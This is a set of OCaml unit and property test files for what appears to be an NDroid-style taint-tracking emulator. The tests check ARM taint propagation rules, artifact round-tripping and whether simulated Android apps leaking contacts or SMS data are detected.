      [ Asm.Label "t"; Asm.I (Insn.movs 0 (Insn.Imm 1)); Asm.I Insn.bx_lr ]
  in
  let lines = Disasm.program prog in
  Alcotest.(check int) "two halfwords" 2 (List.length lines);
  Alcotest.(check int) "2-byte insns" 2 (List.hd lines).Disasm.l_size

let test_report_detected () =
  let o = H.run H.Ndroid_full Ndroid_apps.Cases.case1' in
  match o.H.analysis with
  | None -> Alcotest.fail "no analysis"
  | Some nd ->
    let r =
      Report.generate ~app_name:"case1'" ~transmissions:o.H.transmissions
        ~file_writes:o.H.file_writes nd
    in
    Alcotest.(check bool) "verdict" true
      (has_substring r "VERDICT: 1 information leak(s) detected");
    Alcotest.(check bool) "categories" true
      (has_substring r "leaked categories: contacts, sms");
    Alcotest.(check bool) "sink" true (has_substring r "sink=Socket.send");
    Alcotest.(check bool) "flow log included" true (has_substring r "SourceHandler")

let test_report_clean () =
  let o = H.run H.Ndroid_full Ndroid_apps.Evasion.app in
  match o.H.analysis with
  | None -> Alcotest.fail "no analysis"
  | Some nd ->
    let r = Report.generate nd in
    Alcotest.(check bool) "clean verdict" true
      (has_substring r "no tainted information flow reached a sink")

let suite =
  [ Alcotest.test_case "disasm ARM roundtrip" `Quick test_disasm_arm_roundtrip;
    Alcotest.test_case "disasm marks data" `Quick test_disasm_data_marked;
    Alcotest.test_case "disasm thumb" `Quick test_disasm_thumb;
    Alcotest.test_case "report for a detection" `Quick test_report_detected;
    Alcotest.test_case "report for a clean run" `Quick test_report_clean ]

(* ---- execution trace ---- *)

module Trace = Ndroid_emulator.Trace
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout

let test_trace_records_in_order () =
  let m = Machine.create () in
  Machine.set_host_fn_work m 0;
  ignore (Machine.mount_host_fn m ~lib:"libc.so" ~name:"nop" ~addr:0x40100100
            (fun _ _ -> ()));
  let prog =
    Asm.assemble ~extern:(fun _ -> Some 0x40100100) ~base:Layout.app_lib_base
      [ Asm.I (Insn.mov 0 (Insn.Imm 1));
        Asm.I (Insn.push [ Insn.lr ]);
        Asm.Call "nop";
        Asm.I (Insn.pop [ Insn.pc ]) ]
  in
  Machine.load_program m prog;
  let tr = Trace.attach m in
  ignore (Machine.call_native m ~addr:Layout.app_lib_base ~args:[] ());
  let es = Trace.entries tr in
  Alcotest.(check bool) "starts with the first insn" true
    (match List.hd es with
     | Trace.Insn { addr; _ } -> addr = Layout.app_lib_base
     | _ -> false);
  Alcotest.(check bool) "host boundaries present" true
    (List.exists (function Trace.Host_enter "nop" -> true | _ -> false) es
     && List.exists (function Trace.Host_leave "nop" -> true | _ -> false) es);
  Alcotest.(check int) "total matches list" (List.length es) (Trace.total tr)

let test_trace_ring_bounded () =
  let m = Machine.create () in
  let prog =
    Asm.assemble ~base:Layout.app_lib_base
      [ Asm.I (Insn.mov 1 (Insn.Imm 200));
        Asm.Label "loop";
        Asm.I (Insn.subs 1 1 (Insn.Imm 1));
        Asm.Br (Insn.NE, "loop");
        Asm.I Insn.bx_lr ]
  in
  Machine.load_program m prog;
  let tr = Trace.attach ~capacity:32 m in
  ignore (Machine.call_native m ~addr:Layout.app_lib_base ~args:[] ());
  Alcotest.(check int) "ring keeps 32" 32 (List.length (Trace.entries tr));
  Alcotest.(check bool) "but saw everything" true (Trace.total tr > 300);
  Alcotest.(check bool) "tail ends with bx lr" true
    (match List.rev (Trace.entries tr) with
     | Trace.Insn { insn = Ndroid_arm.Insn.Bx _; _ } :: _ -> true
     | _ -> false)

let suite =
  suite
  @ [ Alcotest.test_case "trace records in order" `Quick
        test_trace_records_in_order;
      Alcotest.test_case "trace ring bounded" `Quick test_trace_ring_bounded ]
