(* Remaining corners: OS view rendering, dexdump, taint-engine reset,
   flow-log search, report formatting helpers. *)

module Os_view = Ndroid_emulator.Os_view
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Dexdump = Ndroid_dalvik.Dexdump
module Taint = Ndroid_taint.Taint
module Taint_engine = Ndroid_core.Taint_engine
module Flow_log = Ndroid_core.Flow_log

let has_substring hay needle =
  let nl = String.length needle and hl = String.length hay in
  let rec loop i =
    if i + nl > hl then false
    else if String.sub hay i nl = needle then true
    else loop (i + 1)
  in
  nl = 0 || loop 0

let test_os_view_render () =
  let m = Machine.create () in
  let view = Os_view.reconstruct m in
  let rendered = Format.asprintf "%a" Os_view.pp view in
  Alcotest.(check bool) "lists the app process" true
    (has_substring rendered "com.ndroid.app");
  Alcotest.(check bool) "lists libdvm" true (has_substring rendered "libdvm.so");
  Alcotest.(check bool) "introspection work positive" true
    (Os_view.introspection_work view > 0)

let test_os_view_tracks_loaded_libs () =
  let m = Machine.create () in
  let prog =
    Ndroid_arm.Asm.assemble ~base:(Layout.app_lib_base + 0x2000)
      [ Ndroid_arm.Asm.I Ndroid_arm.Insn.bx_lr ]
  in
  Machine.load_program m prog;
  let view = Os_view.reconstruct m in
  Alcotest.(check bool) "new mapping visible" true
    (List.exists
       (fun r -> r.Os_view.r_base = Layout.app_lib_base + 0x2000)
       view.Os_view.memory_map)

let test_dexdump_rendering () =
  let rendered =
    Format.asprintf "%a" Dexdump.pp_classes
      Ndroid_apps.Cases.case2.Ndroid_apps.Harness.classes
  in
  Alcotest.(check bool) "class header" true
    (has_substring rendered "class Lcom/ndroid/demos/Case2;");
  Alcotest.(check bool) "native marker" true (has_substring rendered "native (exfil)");
  Alcotest.(check bool) "bytecode listing" true
    (has_substring rendered "invoke-static");
  let natives =
    Dexdump.native_methods Ndroid_apps.Cases.case2.Ndroid_apps.Harness.classes
  in
  Alcotest.(check int) "one native decl" 1 (List.length natives)

let test_taint_engine_reset () =
  let e = Taint_engine.create () in
  Taint_engine.set_reg e 3 Taint.imei;
  Taint_engine.set_sreg e 5 Taint.sms;
  Taint_engine.add_mem e 0x1000 16 Taint.contacts;
  Alcotest.(check bool) "dirty" true (Taint_engine.tainted_bytes e > 0);
  Taint_engine.reset e;
  Alcotest.(check bool) "regs clean" false (Taint_engine.any_reg_tainted e);
  Alcotest.(check int) "map clean" 0 (Taint_engine.tainted_bytes e);
  Alcotest.(check bool) "sregs clean" true (Taint.is_clear (Taint_engine.sreg e 5))

let test_flow_log_matching () =
  let log = Flow_log.create () in
  Flow_log.recordf log "SourceHandler @0x%x" 0x4A000000;
  Flow_log.recordf log "t(r2) := %a" Taint.pp Taint.contacts;
  Flow_log.record log "unrelated";
  Alcotest.(check int) "count" 3 (Flow_log.count log);
  Alcotest.(check int) "matching" 1 (List.length (Flow_log.matching log "SourceHandler"));
  Flow_log.clear log;
  Alcotest.(check int) "cleared" 0 (Flow_log.count log)

let test_report_helpers_empty_inputs () =
  (* a report over a fresh analysis renders without leaks or logs *)
  let device = Ndroid_runtime.Device.create () in
  let nd = Ndroid_core.Ndroid.attach device in
  let r = Ndroid_core.Report.generate ~app_name:"empty" nd in
  Alcotest.(check bool) "clean verdict" true
    (has_substring r "no tainted information flow reached a sink")

let suite =
  [ Alcotest.test_case "os view rendering" `Quick test_os_view_render;
    Alcotest.test_case "os view tracks loaded libs" `Quick
      test_os_view_tracks_loaded_libs;
    Alcotest.test_case "dexdump rendering" `Quick test_dexdump_rendering;
    Alcotest.test_case "taint engine reset" `Quick test_taint_engine_reset;
    Alcotest.test_case "flow log matching" `Quick test_flow_log_matching;
    Alcotest.test_case "report on empty analysis" `Quick
      test_report_helpers_empty_inputs ]
