(* NDroid core: Table V propagation rules, SourcePolicy, the hook engines,
   end-to-end detection, and GC robustness of native-side taint. *)

module Taint = Ndroid_taint.Taint
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Taint_engine = Ndroid_core.Taint_engine
module Insn_taint = Ndroid_core.Insn_taint
module Source_policy = Ndroid_core.Source_policy
module Ndroid = Ndroid_core.Ndroid
module Flow_log = Ndroid_core.Flow_log
module Device = Ndroid_runtime.Device
module H = Ndroid_apps.Harness
module Cases = Ndroid_apps.Cases

let check_taint = Alcotest.testable Taint.pp Taint.equal
let t_a = Taint.imei
let t_b = Taint.sms

(* ---- Table V rules, row by row ---- *)

let fresh () = (Taint_engine.create (), Cpu.create ())

let step engine cpu insn = Insn_taint.step engine cpu ~addr:0x1000 insn

let test_rule_binop_three_reg () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 1 t_a;
  Taint_engine.set_reg e 2 t_b;
  step e cpu (Insn.add 0 1 (Insn.Reg 2));
  Alcotest.check check_taint "t(Rd) = t(Rn) OR t(Rm)" (Taint.union t_a t_b)
    (Taint_engine.reg e 0)

let test_rule_binop_two_reg () =
  (* binary-op Rd, Rm (Rd = Rd op Rm): accumulate *)
  let e, cpu = fresh () in
  Taint_engine.set_reg e 0 t_a;
  Taint_engine.set_reg e 2 t_b;
  step e cpu (Insn.eor 0 0 (Insn.Reg 2));
  Alcotest.check check_taint "t(Rd) accumulates" (Taint.union t_a t_b)
    (Taint_engine.reg e 0)

let test_rule_binop_imm () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 1 t_a;
  Taint_engine.set_reg e 0 t_b;
  step e cpu (Insn.add 0 1 (Insn.Imm 7));
  Alcotest.check check_taint "t(Rd) = t(Rm), old Rd tag replaced" t_a
    (Taint_engine.reg e 0)

let test_rule_unary () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 1 t_a;
  step e cpu (Insn.mvn 0 (Insn.Reg 1));
  Alcotest.check check_taint "unary copies" t_a (Taint_engine.reg e 0)

let test_rule_mov_imm_clears () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 0 t_a;
  step e cpu (Insn.mov 0 (Insn.Imm 5));
  Alcotest.check check_taint "mov #imm clears" Taint.clear (Taint_engine.reg e 0)

let test_rule_mov_reg () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 3 t_b;
  step e cpu (Insn.mov 0 (Insn.Reg 3));
  Alcotest.check check_taint "mov Rm copies" t_b (Taint_engine.reg e 0)

let test_rule_ldr () =
  let e, cpu = fresh () in
  Cpu.set_reg cpu 1 0x5000;
  Taint_engine.set_mem e 0x5004 4 t_a;
  step e cpu (Insn.ldr 0 1 4);
  Alcotest.check check_taint "t(Rd) = t(M[addr])" t_a (Taint_engine.reg e 0)

let test_rule_ldr_address_taint () =
  (* "if the tainted input is the address of an untainted value, the taint
     will be propagated to it" — the OR t(Rn) part *)
  let e, cpu = fresh () in
  Cpu.set_reg cpu 1 0x5000;
  Taint_engine.set_reg e 1 t_b;
  step e cpu (Insn.ldr 0 1 0);
  Alcotest.check check_taint "t(Rd) includes t(Rn)" t_b (Taint_engine.reg e 0)

let test_rule_str () =
  let e, cpu = fresh () in
  Cpu.set_reg cpu 1 0x6000;
  Taint_engine.set_reg e 0 t_a;
  step e cpu (Insn.str 0 1 8);
  Alcotest.check check_taint "t(M[addr]) = t(Rd)" t_a (Taint_engine.mem e 0x6008 4);
  (* storing a clean register clears the location (set, not union) *)
  Taint_engine.set_reg e 0 Taint.clear;
  step e cpu (Insn.str 0 1 8);
  Alcotest.check check_taint "overwrite clears" Taint.clear
    (Taint_engine.mem e 0x6008 4)

let test_rule_strb_byte_granularity () =
  let e, cpu = fresh () in
  Cpu.set_reg cpu 1 0x6000;
  Taint_engine.set_reg e 0 t_a;
  step e cpu (Insn.strb 0 1 0);
  Alcotest.check check_taint "tainted byte" t_a (Taint_engine.mem e 0x6000 1);
  Alcotest.check check_taint "next byte clean" Taint.clear
    (Taint_engine.mem e 0x6001 1)

let test_rule_push_pop () =
  let e, cpu = fresh () in
  Cpu.set_sp cpu 0x8000;
  Taint_engine.set_reg e 4 t_a;
  Taint_engine.set_reg e 14 t_b;
  (* PUSH {r4, lr}: both memory words pick up the register tags *)
  step e cpu (Insn.push [ 4; 14 ]);
  Alcotest.check check_taint "stacked r4" t_a (Taint_engine.mem e 0x7FF8 4);
  Alcotest.check check_taint "stacked lr" t_b (Taint_engine.mem e 0x7FFC 4);
  (* simulate the SP update the real execution would do, then POP *)
  Cpu.set_sp cpu 0x7FF8;
  Taint_engine.set_reg e 4 Taint.clear;
  Taint_engine.set_reg e 14 Taint.clear;
  step e cpu (Insn.pop [ 4; 14 ]);
  Alcotest.check check_taint "popped r4" t_a (Taint_engine.reg e 4);
  Alcotest.check check_taint "popped lr" t_b (Taint_engine.reg e 14)

let test_rule_conditional_skipped () =
  let e, cpu = fresh () in
  (* Z is false: EQ fails, no propagation happens *)
  Taint_engine.set_reg e 1 t_a;
  step e cpu
    (Insn.Dp { cond = Insn.EQ; op = Insn.MOV; s = false; rd = 0; rn = 0;
               op2 = Insn.Reg 1 });
  Alcotest.check check_taint "skipped" Taint.clear (Taint_engine.reg e 0)

let test_rule_mul () =
  let e, cpu = fresh () in
  Taint_engine.set_reg e 1 t_a;
  Taint_engine.set_reg e 2 t_b;
  step e cpu (Insn.mul 0 1 2);
  Alcotest.check check_taint "mul unions" (Taint.union t_a t_b)
    (Taint_engine.reg e 0)

let test_rule_vfp () =
  let e, cpu = fresh () in
  Taint_engine.set_sreg e 0 t_a;
  Taint_engine.set_sreg e 1 t_b;
  step e cpu (Insn.Vdp { cond = Insn.AL; op = Insn.VADD; prec = Insn.F32; vd = 2;
                         vn = 0; vm = 1 });
  Alcotest.check check_taint "vadd unions" (Taint.union t_a t_b)
    (Taint_engine.sreg e 2);
  step e cpu (Insn.Vmov_core { cond = Insn.AL; to_core = true; rt = 3; sn = 2 });
  Alcotest.check check_taint "vmov to core" (Taint.union t_a t_b)
    (Taint_engine.reg e 3)

(* property: propagation only ever moves/unions existing tags — an engine
   with nothing tainted stays untainted under any instruction *)
let insn_gen =
  let open QCheck.Gen in
  let reg = int_bound 12 in
  oneof
    [ map3 (fun rd rn rm -> Insn.add rd rn (Insn.Reg rm)) reg reg reg;
      map2 (fun rd v -> Insn.mov rd (Insn.Imm (v land 0xFF))) reg (int_bound 255);
      map3 (fun rd rn off -> Insn.ldr rd rn (off land 0xFC)) reg reg (int_bound 255);
      map3 (fun rd rn off -> Insn.str rd rn (off land 0xFC)) reg reg (int_bound 255);
      map (fun r -> Insn.push [ r ]) reg;
      map3 (fun rd rm rs -> Insn.mul rd rm rs) reg reg reg ]

let prop_no_taint_from_nothing =
  QCheck.Test.make ~name:"no spontaneous taint" ~count:300
    (QCheck.make insn_gen ~print:Insn.to_string)
    (fun insn ->
      let e, cpu = fresh () in
      Cpu.set_sp cpu 0x8000;
      Cpu.set_reg cpu 1 0x5000;
      Insn_taint.step e cpu ~addr:0x1000 insn;
      (not (Taint_engine.any_reg_tainted e)) && Taint_engine.tainted_bytes e = 0)

(* ---- SourcePolicy ---- *)

let test_source_policy_apply () =
  let jm =
    Ndroid_dalvik.Jbuilder.native_method ~cls:"LX;" ~name:"m" ~shorty:"ILLLLL" "m"
  in
  let slots =
    [| (0, Taint.clear); (1, Taint.clear); (2, Taint.of_bits 0x202);
       (3, Taint.clear); (4, Taint.contacts); (5, Taint.sms) |]
  in
  let jc =
    { Device.jc_method = jm; jc_addr = 0x4A000100; jc_entry = 0x4A000100;
      jc_args = [||]; jc_slots = slots }
  in
  let p = Source_policy.of_jni_call jc in
  Alcotest.(check int) "stack args" 2 p.Source_policy.stack_args_num;
  Alcotest.(check bool) "tainted" true (Source_policy.any_tainted p);
  Alcotest.(check int) "access flag static|public" 0x9 p.Source_policy.access_flag;
  let e = Taint_engine.create () in
  let cpu = Cpu.create () in
  Cpu.set_sp cpu 0x9000;
  Source_policy.apply p e cpu;
  Alcotest.check check_taint "r2" (Taint.of_bits 0x202) (Taint_engine.reg e 2);
  Alcotest.check check_taint "stack slot 0" Taint.contacts
    (Taint_engine.mem e 0x9000 4);
  Alcotest.check check_taint "stack slot 1" Taint.sms (Taint_engine.mem e 0x9004 4)

let test_source_policy_table () =
  let table = Source_policy.Table.create () in
  Alcotest.(check bool) "empty" true (Source_policy.Table.find table 5 = None);
  Alcotest.(check int) "size 0" 0 (Source_policy.Table.size table)

(* ---- end-to-end detection (Table I, Sec. IV) ---- *)

let detection app =
  List.map (fun m -> (m, (H.run m app).H.detected))
    [ H.Vanilla; H.Taintdroid_only; H.Ndroid_full ]

let expect name app ~taintdroid ~ndroid =
  let row = detection app in
  Alcotest.(check bool) (name ^ ": vanilla never detects") false
    (List.assoc H.Vanilla row);
  Alcotest.(check bool) (name ^ ": TaintDroid") taintdroid
    (List.assoc H.Taintdroid_only row);
  Alcotest.(check bool) (name ^ ": NDroid") ndroid (List.assoc H.Ndroid_full row)

let test_case1 () = expect "case 1" Cases.case1 ~taintdroid:true ~ndroid:true
let test_case1' () = expect "case 1'" Cases.case1' ~taintdroid:false ~ndroid:true
let test_case2 () = expect "case 2" Cases.case2 ~taintdroid:false ~ndroid:true
let test_case3 () = expect "case 3" Cases.case3 ~taintdroid:false ~ndroid:true
let test_case4 () = expect "case 4" Cases.case4 ~taintdroid:false ~ndroid:true

let test_droidscope_matches_taintdroid_detection () =
  (* "no new information flows than TaintDroid were reported" *)
  List.iter
    (fun app ->
      let td = (H.run H.Taintdroid_only app).H.detected in
      let ds = (H.run H.Droidscope_mode app).H.detected in
      Alcotest.(check bool) app.H.app_name td ds)
    Cases.all

let test_ndroid_taint_value_case1' () =
  (* the leaked payload carries contacts|sms = 0x202 exactly (Fig. 6) *)
  let o = H.run H.Ndroid_full Cases.case1' in
  match o.H.leaks with
  | [ leak ] ->
    Alcotest.check check_taint "0x202" (Taint.of_bits 0x202)
      leak.Ndroid_android.Sink_monitor.taint
  | leaks -> Alcotest.failf "expected one leak, got %d" (List.length leaks)

let test_ndroid_stats_populated () =
  let o = H.run H.Ndroid_full Cases.case2 in
  match o.H.stats with
  | Some s ->
    Alcotest.(check bool) "a source policy was built" true (s.Ndroid.source_policies >= 1);
    Alcotest.(check bool) "and applied" true (s.Ndroid.policies_applied >= 1);
    Alcotest.(check bool) "instructions traced" true (s.Ndroid.traced_instructions > 10);
    Alcotest.(check bool) "system insns skipped from tracing" true
      (s.Ndroid.skipped_instructions = 0);
    Alcotest.(check bool) "summaries ran" true (s.Ndroid.summaries_applied >= 1);
    Alcotest.(check bool) "sink checked" true (s.Ndroid.sink_checks >= 1)
  | None -> Alcotest.fail "no stats"

let test_flow_log_mentions_source_function () =
  let o = H.run H.Ndroid_full Cases.case2 in
  Alcotest.(check bool) "SourceHandler logged" true
    (List.exists
       (fun l -> String.length l >= 13 && String.sub l 0 13 = "SourceHandler")
       o.H.flow_log)

(* ---- GC robustness: the Sec. V-B motivation for iref-keyed taint ---- *)

let test_taint_survives_gc_move () =
  let device = H.boot Cases.case1' in
  let nd = Ndroid.attach device in
  (* run only the storing half, then GC, then the fetching half *)
  let vm = Device.vm device in
  let s, t = Ndroid_dalvik.Vm.new_string vm ~taint:(Taint.of_bits 0x202) "payload" in
  ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "store" [| (s, t) |]);
  Device.gc device;
  Device.gc device;
  let v, rt = Device.run device "Lcom/ndroid/demos/Case1p;" "fetch" [||] in
  Alcotest.(check string) "content" "payload"
    (Ndroid_dalvik.Vm.string_of_value vm v);
  Alcotest.check check_taint "taint survived two heap compactions"
    (Taint.of_bits 0x202) rt;
  ignore nd

(* ---- ablation wiring sanity ---- *)

let test_always_hook_scans_more () =
  let device = H.boot Cases.case1' in
  let nd = Ndroid.attach ~use_multilevel:false device in
  ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "main" [||]);
  let s = Ndroid.stats nd in
  ignore s;
  (* without multilevel gating, every interpreter entry is scanned *)
  Alcotest.(check bool) "scans happened" true
    ((Device.vm device).Ndroid_dalvik.Vm.counters.Ndroid_dalvik.Vm.invokes > 0)

let test_multilevel_checks_counted () =
  let o = H.run H.Ndroid_full Cases.case3 in
  match o.H.stats with
  | Some s -> Alcotest.(check bool) "branches were checked" true (s.Ndroid.multilevel_checks > 0)
  | None -> Alcotest.fail "no stats"

let suite =
  [ Alcotest.test_case "rule: binop Rd,Rn,Rm" `Quick test_rule_binop_three_reg;
    Alcotest.test_case "rule: binop Rd,Rm" `Quick test_rule_binop_two_reg;
    Alcotest.test_case "rule: binop Rd,Rm,#imm" `Quick test_rule_binop_imm;
    Alcotest.test_case "rule: unary" `Quick test_rule_unary;
    Alcotest.test_case "rule: mov #imm clears" `Quick test_rule_mov_imm_clears;
    Alcotest.test_case "rule: mov Rm" `Quick test_rule_mov_reg;
    Alcotest.test_case "rule: LDR" `Quick test_rule_ldr;
    Alcotest.test_case "rule: LDR address taint" `Quick test_rule_ldr_address_taint;
    Alcotest.test_case "rule: STR" `Quick test_rule_str;
    Alcotest.test_case "rule: STRB byte granularity" `Quick
      test_rule_strb_byte_granularity;
    Alcotest.test_case "rule: PUSH/POP" `Quick test_rule_push_pop;
    Alcotest.test_case "rule: failed condition skips" `Quick
      test_rule_conditional_skipped;
    Alcotest.test_case "rule: MUL" `Quick test_rule_mul;
    Alcotest.test_case "rule: VFP extension" `Quick test_rule_vfp;
    Alcotest.test_case "source policy apply" `Quick test_source_policy_apply;
    Alcotest.test_case "source policy table" `Quick test_source_policy_table;
    Alcotest.test_case "detect case 1" `Quick test_case1;
    Alcotest.test_case "detect case 1'" `Quick test_case1';
    Alcotest.test_case "detect case 2" `Quick test_case2;
    Alcotest.test_case "detect case 3" `Quick test_case3;
    Alcotest.test_case "detect case 4" `Quick test_case4;
    Alcotest.test_case "DroidScope = TaintDroid detection" `Quick
      test_droidscope_matches_taintdroid_detection;
    Alcotest.test_case "case 1' leak tag is 0x202" `Quick
      test_ndroid_taint_value_case1';
    Alcotest.test_case "stats populated" `Quick test_ndroid_stats_populated;
    Alcotest.test_case "flow log has SourceHandler" `Quick
      test_flow_log_mentions_source_function;
    Alcotest.test_case "taint survives GC moves" `Quick test_taint_survives_gc_move;
    Alcotest.test_case "always-hook mode scans" `Quick test_always_hook_scans_more;
    Alcotest.test_case "multilevel checks counted" `Quick
      test_multilevel_checks_counted;
    QCheck_alcotest.to_alcotest prop_no_taint_from_nothing ]
