(* Artifact containers: the dex-like class image and the .so-like library
   image must roundtrip bit-exactly and survive real use (run an app whose
   classes and native code were reloaded from the virtual SD card). *)

module Dexfile = Ndroid_dalvik.Dexfile
module Sofile = Ndroid_arm.Sofile
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Classes = Ndroid_dalvik.Classes
module Device = Ndroid_runtime.Device
module A = Ndroid_android
module H = Ndroid_apps.Harness

let test_dex_roundtrip_all_apps () =
  (* every bundled app's classes survive serialization structurally intact *)
  List.iter
    (fun app ->
      let img = Dexfile.to_string app.H.classes in
      let back = Dexfile.of_string img in
      Alcotest.(check bool)
        (app.H.app_name ^ " classes roundtrip")
        true
        (back = app.H.classes))
    (Ndroid_apps.Cases.all @ Ndroid_apps.Case_studies.all
    @ [ Ndroid_apps.Evasion.app ])

let test_dex_magic_checked () =
  Alcotest.(check bool) "rejects garbage" true
    (match Dexfile.of_string "not a dex" with
     | exception Dexfile.Bad_dex _ -> true
     | _ -> false);
  let img = Dexfile.to_string Ndroid_apps.Cases.case1.H.classes in
  let corrupt = String.sub img 0 (String.length img - 3) in
  Alcotest.(check bool) "rejects truncation" true
    (match Dexfile.of_string corrupt with
     | exception Dexfile.Bad_dex _ -> true
     | _ -> false)

let test_dex_string_pool_dedups () =
  (* the same class name referenced many times is stored once *)
  let classes = Ndroid_apps.Case_studies.qq_phonebook.H.classes in
  let img = Dexfile.to_string classes in
  let count_occurrences hay needle =
    let nl = String.length needle in
    let rec loop i acc =
      if i + nl > String.length hay then acc
      else if String.sub hay i nl = needle then loop (i + 1) (acc + 1)
      else loop (i + 1) acc
    in
    loop 0 0
  in
  Alcotest.(check int) "LoginUtil appears once" 1
    (count_occurrences img "Lcom/tencent/tccsync/LoginUtil;")

let test_so_roundtrip () =
  let prog =
    Asm.assemble ~base:0x4A000000
      [ Asm.Label "f";
        Asm.I (Insn.mov 0 (Insn.Imm 9));
        Asm.I Insn.bx_lr;
        Asm.Label "data";
        Asm.Word 0xCAFE ]
  in
  let back = Sofile.of_string (Sofile.to_string prog) in
  Alcotest.(check int) "base" (Asm.base prog) (Asm.base back);
  Alcotest.(check bool) "code" true (Asm.code prog = Asm.code back);
  Alcotest.(check bool) "symbols" true
    (List.sort compare (Asm.symbols prog) = List.sort compare (Asm.symbols back));
  Alcotest.(check bool) "mode" true (Asm.mode prog = Asm.mode back)

let test_so_thumb_roundtrip () =
  let prog =
    Asm.assemble ~mode:Ndroid_arm.Cpu.Thumb ~base:0x4A001000
      [ Asm.Label "t"; Asm.I (Insn.movs 0 (Insn.Imm 3)); Asm.I Insn.bx_lr ]
  in
  let back = Sofile.of_string (Sofile.to_string prog) in
  Alcotest.(check bool) "thumb mode kept" true (Asm.mode back = Ndroid_arm.Cpu.Thumb);
  Alcotest.(check int) "fn addr keeps thumb bit" (Asm.fn_addr prog "t")
    (Asm.fn_addr back "t")

let test_app_runs_from_artifacts () =
  (* serialize case1' to the virtual SD card, read both artifacts back,
     install, run: the leak is still caught *)
  let source = Ndroid_apps.Cases.case1' in
  let device = Device.create () in
  let fs = Device.fs device in
  let extern name =
    match Device.Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  (* "build the APK" *)
  A.Filesystem.set_contents fs "/data/app/case1p/classes.dex"
    (Dexfile.to_string source.H.classes);
  List.iter
    (fun (name, prog) ->
      A.Filesystem.set_contents fs
        ("/data/app/case1p/lib/" ^ name ^ ".so")
        (Sofile.to_string prog))
    (source.H.build_libs extern);
  (* "install from the APK" *)
  Device.install_classes device
    (Dexfile.of_string (A.Filesystem.contents fs "/data/app/case1p/classes.dex"));
  Device.provide_library device "case1p"
    (Sofile.of_string (A.Filesystem.contents fs "/data/app/case1p/lib/case1p.so"));
  Device.load_library device "case1p";
  let nd = Ndroid_core.Ndroid.attach device in
  ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "main" [||]);
  Alcotest.(check int) "leak caught from reloaded artifacts" 1
    (List.length (Ndroid_core.Ndroid.leaks nd))

let prop_dex_roundtrip_random_method =
  (* random bytecode methods roundtrip *)
  let open QCheck in
  let module B = Ndroid_dalvik.Bytecode in
  let module Dvalue = Ndroid_dalvik.Dvalue in
  let insn_gen =
    let open Gen in
    let reg = int_bound 15 in
    oneof
      [ map2 (fun d v -> B.Const (d, Dvalue.Int (Int32.of_int v))) reg (int_bound 10000);
        map2 (fun d s -> B.Move (d, s)) reg reg;
        map3 (fun d a b -> B.Binop (B.Xor, d, a, b)) reg reg reg;
        map2 (fun d t -> B.Ifz (B.Eq, d, t land 0xFF)) reg (int_bound 1000);
        map (fun t -> B.Goto (t land 0xFF)) (int_bound 1000);
        map2 (fun d s -> B.Const_string (d, Printf.sprintf "s%d" s)) reg
          (int_bound 50);
        map3 (fun v o f ->
            B.Iget (v, o, { B.f_class = "LC;"; f_name = Printf.sprintf "f%d" f }))
          reg reg (int_bound 5);
        map2 (fun d first ->
            B.Packed_switch (d, Int32.of_int first, [| 1; 2; 3 |]))
          reg (int_bound 100) ]
  in
  Test.make ~name:"random methods roundtrip through dex" ~count:200
    (make
       Gen.(list_size (int_range 1 20) insn_gen)
       ~print:(fun insns -> String.concat "; " (List.map B.to_string insns)))
    (fun insns ->
      let m =
        { Classes.m_class = "LC;"; m_name = "m"; m_shorty = "V"; m_static = true;
          m_registers = 16;
          m_body = Classes.Bytecode (Array.of_list insns, []) }
      in
      let cls =
        { Classes.c_name = "LC;"; c_super = None; c_fields = []; c_methods = [ m ] }
      in
      Dexfile.of_string (Dexfile.to_string [ cls ]) = [ cls ])

let suite =
  [ Alcotest.test_case "dex roundtrip (all apps)" `Quick test_dex_roundtrip_all_apps;
    Alcotest.test_case "dex rejects corruption" `Quick test_dex_magic_checked;
    Alcotest.test_case "dex string pool dedups" `Quick test_dex_string_pool_dedups;
    Alcotest.test_case "so roundtrip" `Quick test_so_roundtrip;
    Alcotest.test_case "so thumb roundtrip" `Quick test_so_thumb_roundtrip;
    Alcotest.test_case "app runs from reloaded artifacts" `Quick
      test_app_runs_from_artifacts;
    QCheck_alcotest.to_alcotest prop_dex_roundtrip_random_method ]

let test_packed_app_classifies_type1 () =
  (* a scenario app that calls System.loadLibrary packs to artifacts the
     binary classifier marks Type I *)
  let app = Ndroid_apps.Cases.case1 in
  let device = Device.create () in
  Device.install_classes device app.H.classes;
  let extern name =
    match Device.Machine.host_fn_addr (Device.machine device) name with
    | a -> Some a
    | exception Not_found -> None
  in
  let entries =
    ("classes.dex", Dexfile.to_string app.H.classes)
    :: List.map
         (fun (n, prog) -> ("lib/armeabi/lib" ^ n ^ ".so", Sofile.to_string prog))
         (app.H.build_libs extern)
  in
  let apk = { Ndroid_corpus.Apk.apk_package = "case1"; entries } in
  Alcotest.(check string) "Type I" "Type I"
    (Ndroid_corpus.Classifier.classification_name (Ndroid_corpus.Apk.classify apk))

let suite =
  suite
  @ [ Alcotest.test_case "packed scenario app is Type I" `Quick
        test_packed_app_classifies_type1 ]
