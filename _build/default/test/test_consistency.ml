(* Cross-cutting consistency: the JNI taxonomy (Tables II-IV) matches what
   the device actually mounts, and no app/mode combination can crash the
   harness. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Jni_names = Ndroid_jni.Jni_names
module H = Ndroid_apps.Harness

let mounted_names device =
  (* probe by name through the machine's symbol table *)
  fun name ->
    match Machine.host_fn_addr (Device.machine device) name with
    | _ -> true
    | exception Not_found -> false

let test_taxonomy_is_mounted () =
  (* every function the paper's hook engine names (and our taxonomy lists)
     exists at a guest address, so hooking-by-offset is always possible *)
  let device = Device.create () in
  let is_mounted = mounted_names device in
  let missing =
    List.filter_map
      (fun (name, group) ->
        (* the vararg-list Region/Elements taxonomy entries for Long/Double
           are mounted; plain per-type Get/Set<Prim>Field uses the generic
